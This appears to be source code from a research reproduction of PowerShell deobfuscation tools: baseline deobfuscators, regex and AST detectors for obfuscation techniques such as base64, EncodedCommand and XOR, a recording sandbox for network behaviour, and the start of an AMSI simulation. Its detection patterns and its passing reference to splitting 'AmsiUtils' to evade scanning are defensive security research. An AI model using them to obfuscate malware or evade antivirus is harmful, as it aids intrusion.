    previous = iv
    for offset in range(0, len(data), 16):
        block = bytes(
            d ^ p for d, p in zip(data[offset:offset + 16], previous)
        )
        encrypted = encrypt_block(block, round_keys)
        out.extend(encrypted)
        previous = encrypted
    return bytes(out)


def decrypt_cbc(ciphertext: bytes, key: bytes, iv: bytes) -> bytes:
    """AES-CBC decrypt, stripping PKCS#7 padding."""
    if len(ciphertext) % 16 != 0:
        raise ValueError("ciphertext not block-aligned")
    round_keys = _expand_key(key)
    out = bytearray()
    previous = iv
    for offset in range(0, len(ciphertext), 16):
        block = ciphertext[offset:offset + 16]
        decrypted = decrypt_block(block, round_keys)
        out.extend(d ^ p for d, p in zip(decrypted, previous))
        previous = block
    return _unpad(bytes(out))
