"""Shared plumbing for baseline tool re-implementations."""

import re
import time
from dataclasses import dataclass, field
from typing import List, Optional

from repro.runtime.cmdlets import CommandContext
from repro.runtime.errors import EvaluationError
from repro.runtime.evaluator import Evaluator
from repro.runtime.host import SandboxHost
from repro.runtime.limits import ExecutionBudget
from repro.runtime.values import ScriptBlockValue, to_string


@dataclass
class BaselineResult:
    """Output of one baseline run (the last layer is the final script)."""

    original: str
    script: str
    layers: List[str] = field(default_factory=list)
    elapsed_seconds: float = 0.0

    @property
    def changed(self) -> bool:
        return self.script != self.original


class BaselineTool:
    """Base class: subclasses implement ``_run(script) -> layers``."""

    name = "baseline"

    def deobfuscate(self, script: str) -> BaselineResult:
        started = time.perf_counter()
        try:
            layers = self._run(script)
        except Exception:  # baselines crash on wild input; emulate gently
            layers = []
        elapsed = time.perf_counter() - started
        final = layers[-1] if layers else script
        return BaselineResult(
            original=script,
            script=final,
            layers=layers,
            elapsed_seconds=elapsed,
        )

    def _run(self, script: str) -> List[str]:  # pragma: no cover
        raise NotImplementedError


class CaptureInvoke:
    """An overriding function for ``Invoke-Expression``/``powershell``.

    Instead of executing its argument it records it — the layered-output
    trick PSDecode, PowerDrive and PowerDecode use.
    """

    def __init__(self):
        self.captured: List[str] = []

    def __call__(self, ctx: CommandContext):
        candidate = None
        for value in ctx.arguments:
            if isinstance(value, ScriptBlockValue):
                candidate = value.text().strip("{}")
                break
            if isinstance(value, str):
                candidate = value
                break
        if candidate is None and ctx.input_stream:
            tail = ctx.input_stream[-1]
            if isinstance(tail, str):
                candidate = tail
        if candidate is None:
            for value in ctx.parameters.values():
                if isinstance(value, str):
                    candidate = value
                    break
        if candidate:
            self.captured.append(to_string(candidate))
        return []


# Child shells are separate *processes* in reality: an in-runspace
# function override cannot intercept them, and whatever they execute
# escapes the instrumented session.  Baselines model that with a no-op.
_CHILD_SHELLS = ("powershell", "powershell.exe", "pwsh", "pwsh.exe")


def _escaped_child_shell(ctx: CommandContext):
    return []


def run_with_overrides(
    script: str,
    override_names,
    sleep_scale: float = 0.02,
    step_limit: int = 100_000,
) -> Optional[List[str]]:
    """Execute *script* with overriding capture functions installed.

    Returns captured layers, or None when execution failed before any
    capture (the way the real tools return nothing on crashing scripts).
    Statement failures are non-terminating, like a real runspace.
    """
    capture = CaptureInvoke()
    evaluator = Evaluator(
        host=SandboxHost(),
        budget=ExecutionBudget(step_limit=step_limit),
        enforce_blocklist=False,
        continue_on_error=True,
    )
    evaluator.sleep_scale = sleep_scale
    for name in override_names:
        evaluator.cmdlet_overrides[name.lower()] = capture
    for name in _CHILD_SHELLS:
        evaluator.cmdlet_overrides.setdefault(name, _escaped_child_shell)
    try:
        evaluator.run_script_text(script)
    except EvaluationError:
        if not capture.captured:
            return None
    except RecursionError:  # pragma: no cover - defensive
        return None
    return capture.captured


# Regex helpers shared by the regex-based tools.  They are deliberately
# blind to string boundaries — that imprecision is the failure mode the
# paper attributes to these tools.

TICK_RE = re.compile(r"`(?![\r\n])")

_CONCAT_SQ = re.compile(r"'([^']*)'\s*\+\s*'([^']*)'")
_CONCAT_DQ = re.compile(r'"([^"$`]*)"\s*\+\s*"([^"$`]*)"')


def regex_remove_ticks(script: str) -> str:
    return TICK_RE.sub("", script)


def regex_merge_concat(script: str) -> str:
    """Collapse literal string concatenations with regexes, repeatedly."""
    previous = None
    current = script
    for _round in range(200):
        if current == previous:
            break
        previous = current
        current = _CONCAT_SQ.sub(lambda m: f"'{m.group(1)}{m.group(2)}'",
                                 current, count=1)
        current = _CONCAT_DQ.sub(lambda m: f'"{m.group(1)}{m.group(2)}"',
                                 current, count=1)
    return current


_REPLACE_CALL = re.compile(
    r"'([^']*)'\s*\.\s*replace\s*\(\s*'([^']*)'\s*,\s*'([^']*)'\s*\)",
    re.IGNORECASE,
)


def regex_apply_replace_calls(script: str) -> str:
    """Evaluate literal ``'x'.Replace('a','b')`` calls textually."""
    previous = None
    current = script
    for _round in range(100):
        if current == previous:
            break
        previous = current
        current = _REPLACE_CALL.sub(
            lambda m: "'" + m.group(1).replace(m.group(2), m.group(3)) + "'",
            current,
            count=1,
        )
    return current
