"""PowerDecode re-implementation (Malandrone et al., ITASEC 2021).

Method: regex rules for string concatenation and literal ``.Replace``
calls (but, per Table II, *not* ticking), plus a multi-layer loop — its
"Unary Syntax Tree Model" — that alternates overriding-function capture
with direct execution of the whole script when it reduces to a single
expression.  This makes it the strongest baseline on multi-layer samples
(Table III: 8/12) while still missing invoker spellings that need AST
recovery (``.($pshome[4]+$pshome[30]+'x')``).
"""

import base64
import binascii
import re
from typing import List, Optional

from repro.baselines.common import (
    BaselineTool,
    regex_apply_replace_calls,
    regex_merge_concat,
    run_with_overrides,
)

# In-runspace function overrides; -EncodedCommand child shells are
# handled by the regex path below instead (its documented feature).
_OVERRIDDEN = (
    "invoke-expression",
    "invoke-command",
)

_MAX_LAYERS = 12

# PowerDecode recognizes -EncodedCommand layers with a regex.
_ENCODED_RE = re.compile(
    r"-[eE][nNcCoOdDeEmMaA]*\s+([A-Za-z0-9+/=]{8,})"
)


class PowerDecode(BaselineTool):
    name = "PowerDecode"

    def _regex_pass(self, script: str) -> str:
        script = regex_merge_concat(script)
        script = regex_apply_replace_calls(script)
        return script

    def _try_encoded_command(self, script: str) -> Optional[str]:
        match = _ENCODED_RE.search(script)
        if match is None:
            return None
        try:
            decoded = base64.b64decode(match.group(1)).decode("utf-16-le")
        except (binascii.Error, UnicodeDecodeError, ValueError):
            return None
        if "\x00" in decoded:
            return None
        return decoded

    def _run(self, script: str) -> List[str]:
        layers: List[str] = []
        current = self._regex_pass(script)
        if current != script:
            layers.append(current)
        for _layer in range(_MAX_LAYERS):
            decoded = self._try_encoded_command(current)
            if decoded is not None:
                current = self._regex_pass(decoded)
                layers.append(current)
                continue
            captured = run_with_overrides(current, _OVERRIDDEN)
            if captured:
                next_layer = self._regex_pass(captured[-1])
                if next_layer != current:
                    current = next_layer
                    layers.append(current)
                    continue
            break
        return layers
