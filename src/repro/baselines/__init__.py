"""Re-implementations of the deobfuscators the paper compares against.

Each tool reproduces its original's published *method* — and therefore its
failure modes, which is what the paper's comparison measures:

- :class:`~repro.baselines.psdecode.PSDecode` — regex rules plus
  overriding functions, layered output;
- :class:`~repro.baselines.powerdrive.PowerDrive` — regex rules, joins
  multi-line scripts into one line (often breaking syntax), single-layer
  overriding;
- :class:`~repro.baselines.powerdecode.PowerDecode` — regex rules plus a
  multi-layer overriding/direct-execution loop (its "Unary Syntax Tree
  Model"), the strongest baseline on multi-layer samples;
- :class:`~repro.baselines.li_et_al.LiEtAl` — AST subtree direct
  execution limited to PipelineAst roots with context-free textual
  replacement (the semantics-breaking ``New-Object Net.WebClient`` →
  ``System.Net.WebClient`` behaviour).
"""

from repro.baselines.common import BaselineResult, BaselineTool
from repro.baselines.li_et_al import LiEtAl
from repro.baselines.powerdecode import PowerDecode
from repro.baselines.powerdrive import PowerDrive
from repro.baselines.psdecode import PSDecode

ALL_BASELINES = (PSDecode, PowerDrive, PowerDecode, LiEtAl)

__all__ = [
    "BaselineResult",
    "BaselineTool",
    "PSDecode",
    "PowerDrive",
    "PowerDecode",
    "LiEtAl",
    "ALL_BASELINES",
]
