"""PowerDrive re-implementation (Ugarte et al., DIMVA 2019, per the paper).

Method: regex-based cleanup (backticks, literal string concatenation),
**joining multi-line scripts into one line** (the move Fig 8b shows often
breaks syntax), then one layer of overriding-function capture.  Per Table
II this handles ticking and concatenation only.
"""

from typing import List

from repro.baselines.common import (
    BaselineTool,
    regex_merge_concat,
    regex_remove_ticks,
    run_with_overrides,
)

_OVERRIDDEN = ("invoke-expression",)


class PowerDrive(BaselineTool):
    name = "PowerDrive"

    def _run(self, script: str) -> List[str]:
        layers: List[str] = []
        current = script
        if "\n" in current:
            # PowerDrive flattens scripts to one line before its regexes —
            # statement separators are lost, which is its failure mode on
            # multi-line samples.
            current = " ".join(
                line.strip() for line in current.splitlines() if line.strip()
            )
        current = regex_remove_ticks(current)
        current = regex_merge_concat(current)
        if current != script:
            layers.append(current)
        captured = run_with_overrides(current, _OVERRIDDEN)
        if captured:
            final = captured[-1]
            if "\n" in final:
                # PowerDrive re-runs its one-line normalization on the
                # captured layer too — multi-line payloads get corrupted.
                final = " ".join(
                    line.strip()
                    for line in final.splitlines()
                    if line.strip()
                )
            final = regex_merge_concat(regex_remove_ticks(final))
            if final != current:
                layers.append(final)
        return layers
