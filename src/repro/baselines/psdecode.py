"""PSDecode re-implementation (R3MRUM's PSDecode, per the paper).

Method: override ``Invoke-Expression``/``Invoke-Command``/``powershell``
with capture functions, execute the script, and treat each captured
argument as the next layer; repeat on the captured layer.  A light regex
pass removes backticks first.  Per Table II this handles **ticking** and
single ``iex`` layers but no string-level or encoding obfuscation.
"""

from typing import List

from repro.baselines.common import (
    BaselineTool,
    regex_remove_ticks,
    run_with_overrides,
)

# PSDecode overrides in-runspace functions only; `powershell.exe` child
# shells are separate processes and escape it.
_OVERRIDDEN = (
    "invoke-expression",
    "invoke-command",
)

_MAX_LAYERS = 9  # PSDecode's documented layer cap.


class PSDecode(BaselineTool):
    name = "PSDecode"

    def _run(self, script: str) -> List[str]:
        layers: List[str] = []
        current = regex_remove_ticks(script)
        if current != script:
            layers.append(current)
        for _layer in range(_MAX_LAYERS):
            captured = run_with_overrides(current, _OVERRIDDEN)
            if not captured:
                break
            next_layer = regex_remove_ticks(captured[-1])
            if next_layer == current:
                break
            current = next_layer
            layers.append(current)
        return layers
