"""Li et al. re-implementation (CCS 2019, as adapted by the paper).

The paper could not obtain the authors' classifier model, so it "deleted
the classification module and made their tool traverse all subtrees whose
root are PipelineAst" (Section IV-C1).  This module reproduces that
adapted tool: every ``PipelineAst`` subtree (except assignment right-hand
sides, which their statement-granularity rebuild misses — the Table II "O"
results) is executed directly **without variable context**, and the result
replaces every textual occurrence of the subtree — a context-free
replacement.

Reproduced failure modes:

- assignment-position and pipe-position pieces are missed (Table II "O");
- pieces with variables fail (no context, Algorithm-1-less);
- object results are replaced by their *type name* (``New-Object
  Net.WebClient`` → ``System.Net.WebClient``), which is semantically
  wrong and erases network behaviour (Table IV: 0%);
- ``$PSHome`` differs in their C# host, so ``$pshome[4]+$pshome[30]+'x'``
  recovers garbage (Fig 8c);
- no token phase and no multi-layer handling (Table III: 0/12).
"""

from typing import List, Optional

from repro.baselines.common import BaselineTool
from repro.pslang import ast_nodes as N
from repro.pslang.parser import try_parse
from repro.runtime.errors import EvaluationError
from repro.runtime.evaluator import Evaluator
from repro.runtime.host import SandboxHost
from repro.runtime.limits import ExecutionBudget
from repro.runtime.objects import PSObjectBase
from repro.runtime.values import PSChar, unwrap_single

# The C#-host value of $PSHome (their tool runs inside a .NET project, so
# the automatic variable points at the S.M.A. assembly directory, not the
# console home — the paper's Fig 8c failure).
_CSHARP_PSHOME = (
    r"C:\project\bin\Debug\System.Management.Automation.dll"
)


class LiEtAl(BaselineTool):
    name = "Li et al."

    max_piece_length = 50_000

    def _maximal_pipelines(
        self, ast: N.ScriptBlockAst
    ) -> List[N.PipelineAst]:
        """Outermost PipelineAst subtrees, excluding assignment RHSes.

        Their rebuild works at statement granularity: assignments are
        skipped entirely (the paper's position-2 failure), and nested
        pipelines are only visited when the outer one fails to execute.
        """
        pipelines: List[N.PipelineAst] = []

        def descend(node: N.Ast) -> None:
            for child in node.children():
                if isinstance(child, N.AssignmentStatementAst):
                    continue
                if isinstance(child, N.PipelineAst):
                    pipelines.append(child)
                    continue
                descend(child)

        descend(ast)
        return pipelines

    @staticmethod
    def _nested_pipelines(pipeline: N.PipelineAst) -> List[N.PipelineAst]:
        nested: List[N.PipelineAst] = []

        def descend(node: N.Ast) -> None:
            for child in node.children():
                if isinstance(child, N.AssignmentStatementAst):
                    continue
                if isinstance(child, N.PipelineAst):
                    nested.append(child)
                    continue
                descend(child)

        descend(pipeline)
        return nested

    def _execute_piece(self, piece: str):
        """Returns ``(executed_ok, replacement_or_None)``."""
        evaluator = Evaluator(
            host=SandboxHost(),
            budget=ExecutionBudget(step_limit=30_000),
            enforce_blocklist=False,
        )
        # Their host's automatic variables differ from powershell.exe.
        evaluator.scope.set_local("pshome", _CSHARP_PSHOME)
        try:
            outputs = evaluator.run_script_text(piece)
        except EvaluationError:
            return False, None
        value = unwrap_single(outputs)
        return True, self._render(value)

    def _render(self, value) -> Optional[str]:
        if isinstance(value, str):
            if value == "":
                return None
            return "'" + value.replace("'", "''") + "'"
        if isinstance(value, bool) or value is None:
            return None
        if isinstance(value, (int, float)):
            return str(value)
        if isinstance(value, PSChar):
            return "'" + value.char + "'"
        if isinstance(value, PSObjectBase):
            # Context-free replacement with the object's type name — the
            # semantics-destroying move the paper calls out (Fig 8c).
            return value.type_name
        return None

    def _run(self, script: str) -> List[str]:
        ast, _ = try_parse(script)
        if ast is None:
            return []
        current = script
        work = list(self._maximal_pipelines(ast))
        while work:
            pipeline = work.pop(0)
            piece = script[pipeline.start:pipeline.end]
            if len(piece) > self.max_piece_length:
                continue
            if self._is_trivial(piece):
                continue
            executed, result = self._execute_piece(piece)
            if not executed:
                # Only on execution failure do they descend into nested
                # pipelines (how Fig 8c's inner `New-Object` got hit).
                work.extend(self._nested_pipelines(pipeline))
                continue
            if result is None or result == piece:
                continue
            # Context-free: replace EVERY occurrence of the piece text.
            current = current.replace(piece, result)
        if current == script:
            return []
        return [current]

    @staticmethod
    def _is_trivial(piece: str) -> bool:
        stripped = piece.strip()
        if stripped.startswith("'") and stripped.endswith("'"):
            return "'" not in stripped[1:-1]
        return stripped.replace(".", "", 1).isdigit()
