"""Obfuscation quantification (paper Section IV-B2).

Each known technique (Table II) has a detector built from regexes, tokens
and AST patterns; a script's obfuscation score sums the *level* of every
distinct technique detected (L1 → 1 point, L2 → 2, L3 → 3), counting each
technique once.
"""

from repro.scoring.detectors import detect_techniques
from repro.scoring.score import ObfuscationReport, score_script

__all__ = ["detect_techniques", "score_script", "ObfuscationReport"]
