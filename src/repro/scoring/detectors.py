"""Per-technique obfuscation detectors (regex + token + AST based).

Detector names match :mod:`repro.obfuscation.catalog` technique names so
benches can check both directions (applied → detected, removed → clean).
"""

import re
from typing import Callable, Dict, List, Optional, Set

from repro.core.rename import names_look_random
from repro.pslang import ast_nodes as N
from repro.pslang.aliases import ALIASES, canonical_case
from repro.pslang.parser import try_parse_cached as try_parse
from repro.pslang.tokenizer import try_tokenize
from repro.pslang.tokens import PSToken, PSTokenType
from repro.runtime.environment import is_automatic


class ScriptView:
    """Parsed artefacts computed once and shared by all detectors."""

    def __init__(self, script: str):
        self.script = script
        self.tokens, _ = try_tokenize(script)
        self.ast, _ = try_parse(script)
        self.lowered = script.lower()

    def tokens_of(self, *types: PSTokenType) -> List[PSToken]:
        if self.tokens is None:
            return []
        return [t for t in self.tokens if t.type in types]

    def nodes_of(self, node_type) -> List[N.Ast]:
        if self.ast is None:
            return []
        return self.ast.find_all(node_type)


def _count_case_rises(text: str) -> int:
    """lower→UPPER transitions among letters.

    Verb-Noun and CamelCase names have 1-2 rises; random-case mangling
    ("DoWNlOaDsTrIng") has many.
    """
    letters = [ch for ch in text if ch.isalpha()]
    rises = 0
    for previous, current in zip(letters, letters[1:]):
        if previous.islower() and current.isupper():
            rises += 1
    return rises


# -- L1 -----------------------------------------------------------------------


def detect_ticking(view: ScriptView) -> bool:
    for token in view.tokens_of(
        PSTokenType.COMMAND,
        PSTokenType.COMMAND_ARGUMENT,
        PSTokenType.MEMBER,
        PSTokenType.TYPE,
        PSTokenType.COMMAND_PARAMETER,
    ):
        if "`" in token.text:
            return True
    return False


def detect_whitespacing(view: ScriptView) -> bool:
    if "\xa0" in view.script:
        return True
    if view.tokens is None:
        return bool(re.search(r"[^\S\r\n]{3,}", view.script))
    previous: Optional[PSToken] = None
    for token in view.tokens:
        if previous is not None:
            gap = view.script[previous.end:token.start]
            if "\n" not in gap and "\r" not in gap and len(gap) >= 3:
                return True
            if "\t" in gap and token.type is not PSTokenType.COMMENT:
                return True
        previous = token
    return False


def _segment_is_normal(segment: str) -> bool:
    """all-lower, all-UPPER, or Capitalized — normal human casings."""
    letters = [ch for ch in segment if ch.isalpha()]
    if not letters:
        return True
    body = "".join(letters)
    return (
        body == body.lower()
        or body == body.upper()
        or body == body[0].upper() + body[1:].lower()
    )


def detect_random_case(view: ScriptView) -> bool:
    # Commands and keywords: every dash-segment of a normal spelling is
    # all-lower/all-upper/Capitalized ("Write-Host", "WRITE-HOST"...).
    for token in view.tokens_of(PSTokenType.COMMAND, PSTokenType.KEYWORD):
        text = token.text.replace("`", "")
        if not text.isascii():
            continue
        if any(
            not _segment_is_normal(segment)
            for segment in re.split(r"[-._\\/:]", text)
        ):
            return True
    # Members and types legitimately use CamelCase; only heavy
    # alternation ("DoWNlOaDsTrIng") counts as random.
    for token in view.tokens_of(PSTokenType.MEMBER, PSTokenType.TYPE):
        text = token.text.replace("`", "")
        if not text.isascii():
            continue
        if _count_case_rises(text) >= 3:
            return True
    return False


def detect_random_name(view: ScriptView) -> bool:
    names: List[str] = []
    seen: Set[str] = set()
    for node in view.nodes_of(N.VariableExpressionAst):
        name = node.name
        if ":" in name or is_automatic(name) or name in ("_",):
            continue
        if name.lower() not in seen:
            seen.add(name.lower())
            names.append(name)
    for node in view.nodes_of(N.FunctionDefinitionAst):
        if node.name.lower() not in seen:
            seen.add(node.name.lower())
            names.append(node.name)
    if not names:
        return False
    return names_look_random(names)


def detect_alias(view: ScriptView) -> bool:
    for token in view.tokens_of(PSTokenType.COMMAND):
        if token.content.lower() in ALIASES:
            return True
    return False


# -- L2 -----------------------------------------------------------------------


def _string_operand(node: N.Ast) -> bool:
    return isinstance(
        node,
        (N.StringConstantExpressionAst, N.ExpandableStringExpressionAst),
    )


def detect_concat(view: ScriptView) -> bool:
    for node in view.nodes_of(N.BinaryExpressionAst):
        if node.operator == "+" and (
            _string_operand(node.left)
            or (
                isinstance(node.left, N.BinaryExpressionAst)
                and node.left.operator == "+"
                and _string_operand(node.right)
            )
        ) and (_string_operand(node.right) or _string_operand(node.left)):
            if _string_operand(node.left) and _string_operand(node.right):
                return True
            if (
                isinstance(node.left, N.BinaryExpressionAst)
                and _string_operand(node.right)
            ):
                return True
    return False


def detect_reorder(view: ScriptView) -> bool:
    for node in view.nodes_of(N.BinaryExpressionAst):
        if node.operator != "-f":
            continue
        if isinstance(
            node.left,
            (N.StringConstantExpressionAst, N.ExpandableStringExpressionAst),
        ):
            template = node.left.value
            slots = re.findall(r"\{(\d+)\}", template)
            if len(slots) >= 2 and slots != sorted(slots, key=int):
                return True
            if len(slots) >= 3:
                return True
    return False


def detect_replace(view: ScriptView) -> bool:
    for node in view.nodes_of(N.InvokeMemberExpressionAst):
        member = node.member
        if (
            isinstance(member, N.StringConstantExpressionAst)
            and member.value.lower() == "replace"
        ):
            return True
    for node in view.nodes_of(N.BinaryExpressionAst):
        if node.operator in ("-replace", "-ireplace", "-creplace"):
            return True
    return False


def detect_reverse(view: ScriptView) -> bool:
    if re.search(r"\[\s*-\s*1\s*\.\.", view.script):
        return True
    if re.search(r"\[array\]\s*::\s*reverse", view.lowered):
        return True
    return False


# -- L3 -----------------------------------------------------------------------


def detect_encode_numeric(view: ScriptView) -> bool:
    """Binary/octal/hex via [convert]::ToInt32(x, base)."""
    return bool(
        re.search(
            r"toint(?:16|32|64)\s*\(\s*[^,)]+,\s*(?:2|8|16)\s*\)",
            view.lowered,
        )
    )


def detect_encode_ascii(view: ScriptView) -> bool:
    """Char-code assembly: [char]<n> pipelines or casts of numbers."""
    if re.search(r"\[char\]\s*\(?\s*\d{2,3}", view.lowered):
        return True
    if re.search(r"foreach-object\s*\{\s*\[char\]", view.lowered):
        return True
    if re.search(r"%\s*\{\s*\[char\]", view.lowered):
        return True
    return False


_BASE64_BLOB = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")


def detect_base64(view: ScriptView) -> bool:
    if "frombase64string" in view.lowered:
        return True
    if re.search(r"-[e][ncodema]*\s+[a-z0-9+/=]{16,}", view.lowered):
        return True
    return False


def detect_whitespace_encoding(view: ScriptView) -> bool:
    if view.tokens is None:
        return False
    for token in view.tokens:
        if token.type is PSTokenType.STRING and re.search(
            r" {8,}", token.content
        ):
            return True
    return False


def detect_specialchar(view: ScriptView) -> bool:
    if re.search(r"\[int\]\[char\]", view.lowered):
        return True
    # Scripts that are mostly non-alphanumeric symbols.
    body = view.script.strip()
    if len(body) >= 40:
        specials = sum(
            1 for ch in body if not (ch.isalnum() or ch.isspace())
        )
        if specials / len(body) > 0.55:
            return True
    return False


def detect_bxor(view: ScriptView) -> bool:
    for node in view.nodes_of(N.BinaryExpressionAst):
        if node.operator == "-bxor":
            return True
    return "-bxor" in view.lowered


def detect_securestring(view: ScriptView) -> bool:
    return (
        "securestring" in view.lowered
        or "ptrtostringauto" in view.lowered
        or "securestringtobstr" in view.lowered
    )


def detect_deflate(view: ScriptView) -> bool:
    return (
        "deflatestream" in view.lowered or "gzipstream" in view.lowered
    )


DETECTORS: Dict[str, Callable[[ScriptView], bool]] = {
    "ticking": detect_ticking,
    "whitespacing": detect_whitespacing,
    "random_case": detect_random_case,
    "random_name": detect_random_name,
    "alias": detect_alias,
    "concat": detect_concat,
    "reorder": detect_reorder,
    "replace": detect_replace,
    "reverse": detect_reverse,
    "encode_numeric": detect_encode_numeric,
    "encode_ascii": detect_encode_ascii,
    "base64": detect_base64,
    "whitespace_encoding": detect_whitespace_encoding,
    "specialchar": detect_specialchar,
    "bxor": detect_bxor,
    "securestring": detect_securestring,
    "deflate": detect_deflate,
}

TECHNIQUE_LEVELS: Dict[str, int] = {
    "ticking": 1,
    "whitespacing": 1,
    "random_case": 1,
    "random_name": 1,
    "alias": 1,
    "concat": 2,
    "reorder": 2,
    "replace": 2,
    "reverse": 2,
    "encode_numeric": 3,
    "encode_ascii": 3,
    "base64": 3,
    "whitespace_encoding": 3,
    "specialchar": 3,
    "bxor": 3,
    "securestring": 3,
    "deflate": 3,
}


# Technique tagging re-runs on every exposed layer of every sample, and
# service/batch workloads see the same scripts repeatedly — a bounded
# LRU of views (tokens + AST, both read-only to detectors) removes the
# re-tokenize/re-parse cost.  Salted with the front-end id so another
# language's technique pass can never replay a PowerShell view.
from repro.caching import SaltedLRUCache

_VIEW_CACHE_SALT = "powershell"
_view_cache = SaltedLRUCache(max_entries=256)


def _view_for(script: str) -> ScriptView:
    return _view_cache.get_or_build(_VIEW_CACHE_SALT, script, ScriptView)


def detect_techniques(script: str) -> Set[str]:
    """The set of known techniques detected in *script*."""
    view = _view_for(script)
    found: Set[str] = set()
    for name, detector in DETECTORS.items():
        try:
            if detector(view):
                found.add(name)
        except RecursionError:  # pragma: no cover - defensive
            continue
    return found
