"""Obfuscation scoring (paper Section IV-B2).

Every detected technique contributes its level once: L1 techniques score
1, L2 score 2, L3 score 3; the script's score is the sum.  Table I counts
a sample at level *k* when any L*k* technique is detected; Table V tracks
score reduction after deobfuscation.
"""

from dataclasses import dataclass, field
from typing import Dict, Set

from repro.scoring.detectors import TECHNIQUE_LEVELS, detect_techniques


@dataclass
class ObfuscationReport:
    """Detected techniques and the resulting score for one script."""

    techniques: Set[str] = field(default_factory=set)
    score: int = 0

    @property
    def levels(self) -> Set[int]:
        return {TECHNIQUE_LEVELS[name] for name in self.techniques}

    def has_level(self, level: int) -> bool:
        return level in self.levels

    def per_level_counts(self) -> Dict[int, int]:
        counts = {1: 0, 2: 0, 3: 0}
        for name in self.techniques:
            counts[TECHNIQUE_LEVELS[name]] += 1
        return counts


def score_script(script: str) -> ObfuscationReport:
    techniques = detect_techniques(script)
    score = sum(TECHNIQUE_LEVELS[name] for name in techniques)
    return ObfuscationReport(techniques=techniques, score=score)


def score_reduction(original: str, deobfuscated: str) -> float:
    """Fractional score drop after deobfuscation (Table V's last column)."""
    before = score_script(original).score
    if before == 0:
        return 0.0
    after = score_script(deobfuscated).score
    return max(0.0, (before - after) / before)
