"""Behavioural consistency sandbox (paper Section IV-C3 / Table IV).

The paper runs original and deobfuscated samples in the TianQiong sandbox
and compares *network behaviour* (DNS queries, TCP connections).  Our
substitute executes scripts in the recording sandbox
(:mod:`repro.runtime`) with the blocklist off: network objects record
intent instead of connecting, and the comparison is over the set of
``(effect kind, host)`` pairs — the same signal the paper's sandbox
extracts from traffic.
"""

from dataclasses import dataclass, field
from typing import List, Optional, Set, Tuple

from repro.runtime.errors import EvaluationError
from repro.runtime.evaluator import Evaluator
from repro.runtime.host import Effect, SandboxHost
from repro.runtime.limits import ExecutionBudget


@dataclass
class BehaviorReport:
    """Recorded behaviour of one script execution."""

    effects: List[Effect] = field(default_factory=list)
    error: Optional[str] = None

    @property
    def network_signature(self) -> Set[Tuple[str, str]]:
        """The comparison key: kinds + hosts of network effects."""
        return {
            (effect.kind, effect.host)
            for effect in self.effects
            if effect.kind.startswith("net.")
        }

    @property
    def has_network_behavior(self) -> bool:
        return bool(self.network_signature)


def observe_behavior(
    script: str,
    responses: Optional[dict] = None,
    step_limit: int = 200_000,
) -> BehaviorReport:
    """Execute *script* in the recording sandbox and report its effects.

    ``responses`` maps URL → synthetic body, letting multi-stage
    downloaders fetch their second stage hermetically.
    """
    host = SandboxHost(responses=dict(responses or {}))
    evaluator = Evaluator(
        host=host,
        budget=ExecutionBudget(step_limit=step_limit),
        enforce_blocklist=False,
        continue_on_error=True,
    )
    error = None
    try:
        evaluator.run_script_text(script)
    except EvaluationError as exc:
        error = str(exc)
    except RecursionError as exc:  # pragma: no cover - defensive
        error = f"recursion: {exc}"
    return BehaviorReport(effects=list(host.effects), error=error)


def same_network_behavior(
    original: str,
    candidate: str,
    responses: Optional[dict] = None,
) -> bool:
    """Table IV's per-sample check: identical network signatures."""
    first = observe_behavior(original, responses)
    second = observe_behavior(candidate, responses)
    return first.network_signature == second.network_signature
