"""DEPRECATED — behaviour recording moved to :mod:`repro.verify`.

This module's API (``observe_behavior``, ``same_network_behavior``,
``BehaviorReport``) grew into the semantics-preservation verifier and
now lives in :mod:`repro.verify.observe`.  These wrappers keep the old
import path working for one release, warning on call; the class is
re-exported directly (it is the same type, so ``isinstance`` checks
keep passing across the move).
"""

import warnings
from typing import Optional

from repro.verify.observe import BehaviorReport  # noqa: F401 — re-export
from repro.verify.observe import observe_behavior as _observe_behavior
from repro.verify.observe import (
    same_network_behavior as _same_network_behavior,
)


def _warn(name: str) -> None:
    warnings.warn(
        f"repro.analysis.behavior.{name} is deprecated; use "
        f"repro.verify.{name} instead",
        DeprecationWarning,
        stacklevel=3,
    )


def observe_behavior(
    script: str,
    responses: Optional[dict] = None,
    step_limit: int = 200_000,
) -> BehaviorReport:
    """Deprecated alias of :func:`repro.verify.observe_behavior`."""
    _warn("observe_behavior")
    return _observe_behavior(script, responses, step_limit=step_limit)


def same_network_behavior(
    original: str,
    candidate: str,
    responses: Optional[dict] = None,
) -> bool:
    """Deprecated alias of :func:`repro.verify.same_network_behavior`."""
    _warn("same_network_behavior")
    return _same_network_behavior(original, candidate, responses)
