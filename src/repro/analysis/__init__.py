"""Measurement utilities: key-information extraction, plus re-exports
of the behaviour sandbox that now lives in :mod:`repro.verify` (its
original home here was retired after the one-release window)."""

from repro.analysis.keyinfo import KeyInfo, extract_key_info
from repro.verify.observe import BehaviorReport, observe_behavior

__all__ = [
    "KeyInfo",
    "extract_key_info",
    "BehaviorReport",
    "observe_behavior",
]
