"""Measurement utilities: key-information extraction and the behaviour
sandbox (the reproduction's TianQiong-sandbox substitute)."""

from repro.analysis.behavior import BehaviorReport, observe_behavior
from repro.analysis.keyinfo import KeyInfo, extract_key_info

__all__ = [
    "KeyInfo",
    "extract_key_info",
    "BehaviorReport",
    "observe_behavior",
]
