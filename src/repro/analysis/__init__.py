"""Measurement utilities: key-information extraction and (for one more
release) the old home of the behaviour sandbox, which moved to
:mod:`repro.verify`.  ``repro.analysis.observe_behavior`` re-exports
the :mod:`repro.verify` implementation silently; importing it from the
:mod:`repro.analysis.behavior` submodule warns."""

from repro.analysis.keyinfo import KeyInfo, extract_key_info
from repro.verify.observe import BehaviorReport, observe_behavior

__all__ = [
    "KeyInfo",
    "extract_key_info",
    "BehaviorReport",
    "observe_behavior",
]
