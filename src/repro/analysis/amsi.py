"""AMSI simulation (paper Section V-B).

The Antimalware Scan Interface sees every script buffer that is
*ultimately supplied to the scripting engine* — i.e. the argument of each
``Invoke-Expression``/child-shell layer, after the engine has already
evaluated the deobfuscation code around it.  This module reproduces that
vantage point: it executes a script in the sandbox and captures each
buffer at the invocation boundary, still executing it (unlike the
baselines' overriding functions, which capture *instead of* executing).

The paper's point, reproducible here: AMSI only surfaces content that is
**invoked**; obfuscated pieces that never pass through an invoker (plain
string concatenation inside an expression, ``'Amsi'+'Utils'``) are never
seen, while AST-based recovery handles them — and AMSI's view is defeated
entirely by scripts that gate execution on the environment.
"""

from dataclasses import dataclass, field
from typing import List, Optional

from repro.runtime.cmdlets import CommandContext, lookup_cmdlet
from repro.runtime.errors import EvaluationError
